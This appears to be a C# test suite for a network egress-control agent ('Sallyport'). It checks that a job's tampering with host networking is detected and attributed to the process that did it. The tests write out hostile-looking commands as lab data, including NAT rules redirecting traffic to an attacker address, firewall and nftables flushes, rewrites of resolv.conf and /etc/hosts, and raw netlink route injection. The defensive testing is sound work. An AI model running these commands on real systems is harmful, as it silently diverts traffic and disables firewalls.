using Sallyport.Lab.Reports;

namespace Sallyport.Kernel.Tests;

/// <summary>
/// HARDENING rules 2 and 4: what the job changes on the machine changes no verdict, and is a finding that names the process. Each
/// script proves that the change is there; exit code 3 when this kernel has no such thing.
/// </summary>
public sealed class ChangeTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    private const string Far = "198.51.100.192/26";

    [Theory]
    [EveryMode("iptables-nft", "iptables-legacy")]
    public Task Address_translation_by_iptables_is_found(LabMode mode, string program) => FindAsync(
        mode,
        "nat-rule-added",
        program.Replace("iptables", "xtables", StringComparison.Ordinal) + "-multi",
        $"{program} -t nat -A OUTPUT -p tcp -d {Allowed} --dport 4443 -j DNAT --to-destination {Attacker}:4443 || exit 3",
        $"trap '{program} -t nat -F' EXIT",
        $"{program} -t nat -S OUTPUT | grep -q DNAT");

    [Theory]
    [EveryMode("ip6tables-legacy", "iptables-legacy", "iptables-nft")]
    public Task A_flushed_table_is_found(LabMode mode, string program) => FindAsync(
        mode,
        "firewall-flushed",
        "xtables-" + program.Split('-')[1] + "-multi",
        $"{program} -A INPUT -p tcp --dport 9 -j DROP || exit 3",
        $"{program} -F",
        $"! {program} -S INPUT | grep -q DROP");

    [Theory]
    [EveryMode]
    public Task A_flushed_ruleset_of_nftables_is_found(LabMode mode) => FindAsync(
        mode,
        "firewall-flushed",
        "nft",
        "nft add table ip lab || exit 3",
        "nft add chain ip lab in '{ type filter hook input priority 0; }'",
        "nft add rule ip lab in tcp dport 9 drop",
        "nft flush ruleset",
        "test -z \"$(nft list ruleset)\"");

    [Theory]
    [EveryMode]
    public Task A_rule_hidden_behind_many_others_in_one_request_is_found(LabMode mode) => FindAsync(
        mode,
        "nat-rule-added",
        "nft",
        "trap 'nft delete table ip lab' EXIT",
        "{ echo 'add table ip lab'; echo 'add chain ip lab out { type nat hook output priority -100; }'; i=0",
        "while [ $i -lt 300 ]; do echo \"add rule ip lab out tcp dport $i accept\"; i=$((i+1)); done",
        $"echo 'add rule ip lab out ip daddr {Allowed} dnat to {Attacker}'; }} > /run/lab/work/rules",
        "nft -f /run/lab/work/rules || exit 3",
        "nft list ruleset | grep -q dnat");

    [Theory]
    [EveryMode($"ip route add {Far} via {Gateway}", "busybox route add -net 198.51.100.192 netmask 255.255.255.192 dev lab0")]
    public Task A_route_is_found_whether_by_netlink_or_ioctl(LabMode mode, string add) => FindAsync(
        mode,
        "route-added",
        add.Split(' ')[0],
        $"trap 'ip route del {Far}' EXIT",
        add,
        $"ip route show {Far} | grep -q lab0");

    [Theory]
    [EveryMode]
    public Task A_route_of_a_sender_that_chose_the_port_of_another_process_is_found(LabMode mode) => FindAsync(
        mode,
        "route-added",
        "python3",
        $"trap 'ip route del {Far}' EXIT",
        "python3 - <<'EOF'",
        "import socket, struct",
        "s = socket.socket(16, 3, 0)",
        "s.bind((1, 0))",
        "# RTM_NEWROUTE, REQUEST | CREATE | EXCL | ACK; table main, protocol kernel, scope link, unicast; RTA_DST, RTA_OIF",
        "body = struct.pack('BBBBBBBBI', 2, 26, 0, 0, 254, 2, 253, 1, 0)",
        "body += struct.pack('HH4s', 8, 1, socket.inet_aton('198.51.100.192'))",
        "body += struct.pack('HHI', 8, 4, socket.if_nametoindex('lab0'))",
        "s.send(struct.pack('IHHII', 16 + len(body), 24, 0x605, 1, 1) + body)",
        "assert struct.unpack('i', s.recv(4096)[16:20])[0] == 0",
        "EOF",
        $"ip route show {Far} | grep -q lab0");

    [Theory]
    [EveryMode]
    public Task A_routing_rule_is_found(LabMode mode) => FindAsync(
        mode,
        "routing-rule-changed",
        "ip",
        $"ip rule add pref 77 to {Attacker} table main || exit 3",
        "trap 'ip rule del pref 77' EXIT",
        "ip rule show | grep -q ^77");

    [Theory]
    [EveryMode(
        "tunnel-created link add new0 type ipip local 198.51.100.2 remote 198.51.100.66",
        "tunnel-created link add new0 type gretap local 198.51.100.2 remote 198.51.100.66",
        "tunnel-created link add new0 type vxlan id 7 remote 198.51.100.66 dstport 4789 dev lab0",
        "tunnel-created link add new0 type wireguard",
        "tunnel-created tuntap add new0 mode tun",
        "device-created link add new0 type veth peer name new1",
        "device-created link add new0 type bridge")]
    public Task A_new_device_is_found(LabMode mode, string what) => FindAsync(
        mode,
        what.Split(' ')[0],
        "ip",
        $"ip {what[(what.IndexOf(' ', StringComparison.Ordinal) + 1)..]} || exit 3",
        "trap 'ip link del new0' EXIT",
        "ip link show new0 | grep -q new0");

    [Theory]
    [EveryMode]
    public Task An_address_that_the_job_gives_to_loopback_is_found(LabMode mode) => FindAsync(
        mode,
        "address-added",
        "ip",
        "trap 'ip addr del 198.51.100.250/32 dev lo' EXIT",
        "ip addr add 198.51.100.250/32 dev lo",
        "ip addr show lo | grep -q 198.51.100.250");

    [Theory]
    [EveryMode]
    public Task A_filter_of_traffic_control_is_found(LabMode mode) => FindAsync(
        mode,
        "traffic-filter-added",
        "tc",
        "tc qdisc add dev lab0 clsact || exit 3",
        "trap 'tc qdisc del dev lab0 clsact' EXIT",
        "tc filter add dev lab0 egress protocol ip prio 1 u32 match u32 0 0 action pass || true", // some kernels have no u32
        "tc qdisc show dev lab0 | grep -q clsact");

    [Theory]
    [EveryMode]
    public Task A_filter_that_is_taken_off_a_device_is_found(LabMode mode) => FindAsync(
        mode,
        "traffic-filter-removed",
        "tc",
        "tc qdisc add dev lab0 clsact || exit 3",
        "tc filter add dev lab0 egress protocol ip prio 1 matchall action pass || true", // some kernels have none of these
        "tc qdisc del dev lab0 clsact",
        "! tc qdisc show dev lab0 | grep -q clsact");

    [Theory]
    [EveryMode("iptables-legacy", "iptables-nft")]
    public Task A_rule_of_the_packet_filter_is_found(LabMode mode, string program) => FindAsync(
        mode,
        "firewall-changed",
        program.Replace("iptables", "xtables", StringComparison.Ordinal) + "-multi",
        $"{program} -A INPUT -p tcp --dport 9 -j ACCEPT || exit 3",
        $"trap '{program} -D INPUT -p tcp --dport 9 -j ACCEPT' EXIT",
        $"{program} -S INPUT | grep -q -- '--dport 9'");

    /// <summary>The guardian holds a few hundred programs of devices, and no more: what comes after that is said.</summary>
    [Fact]
    public async Task Devices_that_come_later_and_find_no_place_are_counted()
    {
        var run = await Lab.RunAsync(LabMode.Audit, Script(
            "trap 'ip link del group 77' EXIT",
            "for i in $(seq 240); do echo \"tuntap add late$i mode tun\"; echo \"link set late$i group 77\"; done > late",
            "ip -batch late || exit 3") with
        {
            Deadline = TimeSpan.FromSeconds(60),
        });
        Assert.SkipWhen(run.Process.ExitCode == 3, $"this kernel lacks it: {run.Process.Errors.Trim()}");
        Assert.True(run.Process.ExitCode == 0 && !run.Report.Complete, run.ToString());
        Assert.True(run.Report.Losses.GetValueOrDefault("device-programs") > 0, run.ToString());
    }

    /// <summary>As the policy says, also where nothing is refused; with the default each of these runs succeeds (above).</summary>
    [Theory]
    [InlineData("nat-rule-added", "nft add table ip lab; nft add chain ip lab out '{ type nat hook output priority -100; }'; "
        + "nft add rule ip lab out ip daddr 198.51.100.20 dnat to 198.51.100.66; nft delete table ip lab")]
    [InlineData("firewall-flushed", "nft add table ip lab; nft flush ruleset")]
    [InlineData("route-added", $"ip route add {Far} via {Gateway}; ip route del {Far}")]
    [InlineData("hosts-changed", "cp /etc/hosts /run/lab/work/before; echo '#' >> /etc/hosts", "cat /run/lab/work/before > /etc/hosts")]
    [InlineData("agent-files-covered", "mkdir -p /etc/sallyport; mount -t tmpfs none /etc/sallyport", "umount /etc/sallyport")]
    public async Task It_fails_the_run_where_the_policy_says_so(string id, string script, string afterwards = "true")
    {
        var run = await Lab.RunAsync(LabMode.Audit, Script(script) with
        {
            Policy = $"version: 1\ndetections: {{ {id}: fail }}",
        });
        _ = await Lab.OutsideAsync("/bin/sh", "-c", afterwards);
        Assert.True(run.Process.ExitCode == 10, run.ToString());
        Assert.Contains(run.Report.Findings, finding => finding.Id == id);
        Assert.Contains(id, run.Process.Errors, StringComparison.Ordinal);
    }

    /// <summary>Rules and filters that are looked at, and stay as they are.</summary>
    [Fact]
    public async Task A_filter_that_is_listed_is_no_finding()
    {
        var run = await Lab.RunAsync(LabMode.Block, Script(
            "iptables-legacy -S > /dev/null || true; iptables-nft -S > /dev/null || true; nft list ruleset > /dev/null",
            "tc qdisc show dev lab0 > /dev/null; tc filter show dev lab0 > /dev/null"));
        Assert.True(run.Process.ExitCode == 0 && run.Report.Findings.Count == 0, run.ToString());
    }

    [Theory]
    [EveryMode]
    public Task An_IPsec_policy_is_found(LabMode mode) => FindAsync(
        mode,
        "ipsec-policy-added",
        "ip",
        $"ip xfrm policy add dst 198.51.100.251/32 dir out tmpl dst {Attacker} proto esp mode tunnel || exit 3",
        $"trap 'ip xfrm policy flush' EXIT",
        "ip xfrm policy | grep -q 198.51.100.251");

    [Theory]
    [EveryMode("resolver-changed /etc/resolv.conf", "hosts-changed /etc/hosts", "name-switch-changed /etc/nsswitch.conf")]
    public Task A_written_file_of_names_is_found(LabMode mode, string what)
    {
        var path = what.Split(' ')[1];
        return FindAsync(
            mode,
            what.Split(' ')[0],
            "tee",
            $"cp {path} /run/lab/work/before",
            $"trap 'cat /run/lab/work/before > {path}' EXIT",
            $"echo '# nameserver {Canary}' | tee -a {path} > /dev/null",
            $"grep -q {Canary} {path}");
    }

    [Theory]
    [EveryMode]
    public async Task A_file_of_names_that_is_mounted_over_is_found(LabMode mode)
    {
        await FindAsync(
            mode,
            "hosts-changed",
            null,
            $"echo '{Attacker} allowed.test' > /run/lab/work/other",
            "mount --bind /run/lab/work/other /etc/hosts",
            $"grep -q {Attacker} /etc/hosts");
        await Lab.OutsideAsync("umount", "/etc/hosts");
    }

    [Theory]
    [EveryMode]
    public async Task A_resolver_that_the_job_writes_down_gives_no_lease(LabMode mode)
    {
        var run = await ProveAsync(mode, new Attack
        {
            Command = Script(
                "cp /etc/resolv.conf /run/lab/work/before",
                "trap 'cat /run/lab/work/before > /etc/resolv.conf' EXIT",
                $"echo nameserver {ForeignResolver} > /etc/resolv.conf",
                $"{Program("resolve")} allowed.test 4443 {Canary} || echo failed") with
            {
                Allow = ["tcp://allowed.test:4443"],
            },
            Row = Row.Connection("udp", 53, ForeignResolver),
            Reasons = ["no-rule"],
            Exe = "resolve",
            Silent = (ForeignResolver, 53),
        });
        if (mode != LabMode.Off)
        {
            Assert.Contains(run.Report.Findings, finding => finding.Id == "resolver-changed");
            // In audit the other server is asked, and the connection after it stands without a lease.
            Assert.DoesNotContain(run.Report.Connections, c => c is { Port: 4443, Verdict: "allowed" });
        }
    }

    [Theory]
    [EveryMode]
    public async Task A_rewritten_destination_is_refused_and_the_rule_is_found(LabMode mode)
    {
        var run = await FindAsync(
            mode,
            "nat-rule-added",
            "nft",
            "nft add table ip lab || exit 3",
            "trap 'nft delete table ip lab' EXIT",
            "nft add chain ip lab out '{ type nat hook output priority -100; }'",
            $"nft add rule ip lab out ip daddr {Allowed} tcp dport 4443 dnat to {Attacker}:4443",
            $"{Program("tcp")} connect {Allowed} 4443 {Canary} || echo refused");
        Assert.Equal(mode != LabMode.Block, run.Traffic.Contains(Canary));
        Assert.Equal(mode != LabMode.Block ? 2 : 0, run.Traffic.ConnectionsTo(Attacker)); // the other one is FindAsync's own
    }

    [Fact]
    public async Task Changes_in_namespaces_of_the_jobs_own_are_no_finding()
    {
        var run = await Lab.RunAsync(LabMode.Block, Command(
            "unshare",
            "--net",
            "--mount",
            "/bin/sh",
            "-ec",
            "ip link add new0 type veth peer name new1; ip addr add 10.77.0.1/24 dev new0; ip link set new0 up\n"
                + "ip route add 10.78.0.0/24 dev new0; nft add table ip own; iptables-legacy -t nat -N own || true\n"
                + "mount --bind /dev/null /etc/hosts"));
        Assert.Equal(0, run.Process.ExitCode);
        Assert.Empty(run.Report.Findings);
    }

    [Fact]
    public async Task Changes_that_others_make_meanwhile_are_no_finding()
    {
        var run = await Lab.RunAsync(LabMode.Block, Script(
            "echo ready; until [ -e /run/lab/work/go ]; do :; done; rm /run/lab/work/go") with
        {
            Meanwhile = async process =>
            {
                await process.SaysAsync("ready", TimeSpan.FromMinutes(1));
                var other = await Lab.OutsideAsync(
                    "/bin/sh",
                    "-ec",
                    $"ip route add {Far} via {Gateway}; ip route del {Far}; ip link add new0 type veth peer name new1; "
                        + "ip link del new0; nft add table ip lab; nft delete table ip lab; touch /run/lab/work/go");
                Assert.True(other.ExitCode == 0, other.ToString());
            },
        });
        Assert.True(run.Process.ExitCode == 0, run.ToString());
        Assert.True(run.Report.Findings.Count == 0, run.ToString());
    }

    [Fact]
    public async Task A_call_that_the_kernel_refuses_is_no_finding()
    {
        var run = await Lab.RunAsync(LabMode.Block, Script(
            "! iptables-legacy -t nat -N own; ! ip route add 10.78.0.0/24 dev lab0; ! tee -a /etc/hosts < /dev/null") with
        {
            UserId = 65534,
        });
        Assert.True(run.Report.Findings.Count == 0, run.ToString());
    }

    /// <summary>
    /// Off: the change is there. Audit and block: it is there as well, and the report names it with who did it. While it is there, a call
    /// to who is not allowed is refused in block mode as before, and one to who is allowed arrives.
    /// </summary>
    /// <param name="mode">With or without the agent.</param>
    /// <param name="id">Of the finding.</param>
    /// <param name="exe">Who makes the change; null for nobody.</param>
    /// <param name="lines">The last one proves that it was made.</param>
    private async Task<LabRun> FindAsync(LabMode mode, string id, string? exe, params string[] lines)
    {
        var (forbidden, honest) = ($"forbidden{Canary}"[..24], $"honest{Canary}"[..24]);
        string[] calls =
        [
            $"{Program("tcp")} connect {Attacker} 4443 {forbidden} || echo refused",
            $"{Program("tcp")} connect {AllowedSecond} 4443 {honest}",
        ];
        var command = Script([.. lines[..^1], .. calls, lines[^1]]) with
        {
            Allow = [$"tcp://{Allowed}:4443", $"tcp://{AllowedSecond}:4443"],
            Deadline = TimeSpan.FromSeconds(60),
        };
        var run = await Lab.RunAsync(mode, command);
        Assert.SkipWhen(run.Process.ExitCode == 3, $"this kernel lacks it: {run.Process.Errors.Trim()}");
        Assert.True(run.Process.ExitCode == 0, $"The change was not made.\n{run}");
        Assert.True(run.Traffic.Contains(forbidden) == (mode != LabMode.Block), $"The forbidden call.\n{run}");
        Assert.True(run.Traffic.Contains(honest), $"The allowed call.\n{run}");
        if (mode != LabMode.Off)
        {
            var rows = run.Report.Findings.Where(finding => finding.Id == id).ToList();
            Assert.True(rows.Count > 0, $"No finding {id}.\n{run}");
            Assert.True(rows.Exists(row => IsBy(run.Report, row, exe)), $"Not by {exe ?? "nobody"}.\n{run}");
            Assert.True(run.Report.Complete, run.ToString());
        }

        return run;
    }

    // The path by its inode: /usr/bin/python3 is a link to a version of it.
    private static bool IsBy(ReportView report, ReportedFinding finding, string? exe) => exe is null
        ? finding.Process is null
        : Path.GetFileName(report.ExeOf(finding.Process))?.StartsWith(exe, StringComparison.Ordinal) == true;
}
